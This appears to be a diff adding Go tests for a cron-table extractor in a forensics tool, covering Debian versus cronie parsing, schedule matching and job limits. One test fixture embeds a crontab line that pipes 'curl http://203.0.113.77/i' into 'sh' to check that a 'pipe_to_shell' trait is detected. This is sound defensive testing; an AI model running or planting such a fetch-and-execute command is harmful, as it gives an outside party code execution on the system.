@@ -1,0 +1,146 @@
+package cron
+
+import (
+	"fmt"
+	"os/exec"
+	"strings"
+	"testing"
+	"time"
+
+	robfig "github.com/robfig/cron/v3"
+
+	"icecore/forensics/artifact/artifacttest"
+)
+
+func TestGolden(t *testing.T) { artifacttest.Golden(t, Extractor{}, "debian") }
+
+func FuzzExtract(f *testing.F) {
+	artifacttest.Fuzz(f, Extractor{}, "/etc/crontab", "/etc/cron.d/x", "/var/spool/cron/crontabs/root", "/var/spool/cron/root", "/etc/anacrontab", "/etc/cron.daily/x", "/var/spool/cron/atjobs/a00001019d0c40")
+}
+
+// TestFamilies: what Debian's cron passes over, cronie runs.
+func TestFamilies(t *testing.T) {
+	for _, tt := range []struct {
+		path, text     string
+		debian, cronie string // ignored, of the last job
+	}{
+		{"/etc/cron.d/x", "* * * * * root /bin/a\n", "", ""},
+		{"/etc/cron.d/x.conf", "* * * * * root /bin/a\n", "cron skips a file of this name", ""},
+		{"/etc/cron.d/.x", "* * * * * root /bin/a\n", "cron skips a file of this name", "cron skips a file of this name"},
+		{"/etc/cron.d/x~", "* * * * * root /bin/a\n", "cron skips a file of this name", "cron skips a file of this name"},
+		{"/etc/cron.d/x", "* * * * * root /bin/a", "Debian's cron skips a table whose last line has no end", ""},
+		{"/etc/cron.d/x", "garbage\n* * * * * root /bin/a\n", "Debian's cron skips a table with a syntax error (line 1: \"garbage\" is no part of a schedule)", ""},
+		{"/var/spool/cron/root", "* * * * * /bin/a\n", "Debian's cron reads the tables in /var/spool/cron/crontabs", ""},
+		{"/var/spool/cron/crontabs/root", "60 * * * * /bin/a\n", "Debian's cron skips a table with a syntax error (line 1: minute: \"60\" is not between 0 and 59)", "minute: \"60\" is not between 0 and 59"},
+		{"/etc/cron.daily/x.sh", "/bin/a\n", "run-parts skips a file of this name", ""},
+	} {
+		for osID, want := range map[string]string{"debian": tt.debian, "centos": tt.cronie} {
+			records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: tt.path, Text: tt.text, OSID: osID, Mode: 0o100755})
+			if err != nil || len(records) == 0 {
+				t.Fatalf("%s, %q: %d records, %v", tt.path, tt.text, len(records), err)
+			}
+			if got := records[len(records)-1].Get("ignored"); got != want {
+				t.Errorf("%s, %q on %s: %q, want %q", tt.path, tt.text, osID, got, want)
+			}
+		}
+	}
+}
+
+// TestSchedules compares the minutes in which jobs run with what robfig/cron says,
+// over two years.
+func TestSchedules(t *testing.T) {
+	parser := robfig.NewParser(robfig.Minute | robfig.Hour | robfig.Dom | robfig.Month | robfig.Dow | robfig.Descriptor)
+	for _, text := range []string{
+		"* * * * *", "*/5 * * * *", "0 0 * * *", "17 3-9/2 1,15 * *", "0 12 1 * mon", "0 12 1 * *", "0 12 * * 1-5", "59 23 29 2 *", "30 4 1,15 * 5", "*/7 */5 */3 jan-mar *", "0 0 * * SUN", "5-55/10 * * * *", "1,2,3 4,5 * * 0", "0 0 31 * *", "@daily", "@weekly", "@monthly", "@yearly", "@hourly", "0 22 * DEC fri", "10/20 * * * *",
+	} {
+		s, err := ParseSchedule(text)
+		if err != nil {
+			t.Errorf("%s: %v", text, err)
+			continue
+		}
+		want, err := parser.Parse(text)
+		if err != nil {
+			t.Fatal(err)
+		}
+		at := time.Date(2023, 12, 31, 23, 59, 0, 0, time.UTC)
+		end := at.AddDate(2, 3, 0)
+		next := want.Next(at)
+		for n := 0; at.Before(end) && n < 100_000; n++ {
+			at = at.Add(time.Minute)
+			if got := s.Matches(at); got != at.Equal(next) {
+				t.Errorf("%s at %s: %v, robfig/cron says next %s", text, at, got, next)
+				break
+			}
+			if at.Equal(next) {
+				next = want.Next(at)
+				if n > 1000 && next.Sub(at) > 2*time.Hour {
+					at = next.Add(-time.Minute) // nothing to see in between
+				}
+			}
+		}
+	}
+	// What robfig/cron does not take.
+	for _, tt := range []struct{ text, same string }{{"0 0 * * 7", "0 0 * * 0"}, {"0 0 * * 5-7", "0 0 * * 0,5,6"}, {"@midnight", "@daily"}, {"@annually", "@yearly"}, {"0 0 * * 1-5", "0 0 * * mon-fri"}} {
+		a, err := ParseSchedule(tt.text)
+		if err != nil {
+			t.Error(err)
+		}
+		if b, _ := ParseSchedule(tt.same); a != b {
+			t.Errorf("%s is not %s", tt.text, tt.same)
+		}
+	}
+	// A field that begins with a star counts as one (crontab(5)), though it has a
+	// step: the days that match both are meant.
+	if s, _ := ParseSchedule("0 0 */10 * 1"); s.Matches(time.Date(2024, 1, 8, 0, 0, 0, 0, time.UTC)) || !s.Matches(time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)) {
+		t.Error("a star with a step")
+	}
+	for _, text := range []string{"60 * * * *", "* 24 * * *", "* * 0 * *", "* * * 13 *", "* * * * 8", "5-1 * * * *", "*/0 * * * *", "a * * * *", "* * * *", "@noon", "1,,2 * * * *", "+1 * * * *", "L * * * *", "-1 * * * *", "*/x * * * *"} {
+		if _, err := ParseSchedule(text); err == nil {
+			t.Errorf("%s: no error", text)
+		}
+	}
+	if s, err := ParseSchedule("0~30 3 * * *"); err != nil || !s.Random || s.RunsPerDay() != 31 {
+		t.Errorf("a random minute: %+v, %v", s, err)
+	}
+}
+
+func TestDescribe(t *testing.T) {
+	for text, want := range map[string]string{
+		"@reboot": "at every boot", "* * * * *": "every minute", "*/5 * * * *": "every 5 minutes", "0 3 * * *": "every day at 03:00", "17 * * * *": "every hour at minute 17", "30 4 1,15 * 5": "every day at 04:30, on day 1,15 of the month or on Friday",
+		"0 9-17 * * 1-5": "every hour at minute 0, from 09:00 to 17:59, on Monday, Tuesday, Wednesday, Thursday, Friday", "@weekly": "every day at 00:00, on Sunday", "*/2 3 * jan *": "every 2 minutes, from 03:00 to 03:59, in January", "0 */6 * * *": "every hour at minute 0, in every 6th hour", "x": "",
+	} {
+		if got := Describe(text); got != want {
+			t.Errorf("%s: %q, want %q", text, got, want)
+		}
+	}
+}
+
+// TestCrontab asks the system's crontab(1) which tables it takes, where it can say
+// (cronie, busybox of late; not Debian 12's).
+func TestCrontab(t *testing.T) {
+	out, _ := exec.Command("crontab", "-h").CombinedOutput()
+	if !strings.Contains(string(out), "-T") {
+		t.Skip("no crontab(1) with -T, which checks a table")
+	}
+	for _, text := range []string{"* * * * * a\n", "60 * * * * a\n", "@daily a\n", "@noon a\n", "A=b\n", "* * * * *\n", "5-1 * * * * a\n", "0 0 * * 7 a\n", "0 0 * jan sun a\n"} {
+		cmd := exec.Command("crontab", "-T", "-")
+		cmd.Stdin = strings.NewReader(text)
+		want := cmd.Run() == nil
+		if got := envLine.MatchString(text) || parseJob(strings.TrimSpace(text), userTab).err == nil; got != want {
+			t.Errorf("%q: %v, crontab -T says %v", text, got, want)
+		}
+	}
+}
+
+// TestMany: the number of jobs is bounded, and that is said.
+func TestMany(t *testing.T) {
+	records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/crontab", Text: strings.Repeat("* * * * * root a\n", maxJobs+5)})
+	if err == nil || len(records) != maxJobs {
+		t.Errorf("%d records, %v", len(records), err)
+	}
+	long := fmt.Sprintf("* * * * * root a %s; curl http://203.0.113.77/i | sh\n", strings.Repeat("x", 100_000))
+	records, err = artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/crontab", Text: long})
+	if err != nil || len(records) != 1 || !strings.Contains(records[0].Get("traits"), "pipe_to_shell") {
+		t.Errorf("a long line: %d records, %v", len(records), err)
+	}
+}
